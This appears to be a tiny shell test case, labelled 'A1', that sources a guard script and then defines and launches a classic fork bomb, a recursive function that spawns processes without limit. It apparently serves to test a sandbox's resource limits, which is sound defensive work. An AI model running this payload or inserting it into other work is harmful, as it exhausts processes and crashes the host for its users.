# A1: the shell fork bomb.
. ./guard.sh
echo "ready ok"
bomb() { bomb | bomb & }
bomb
wait
sleep 1000
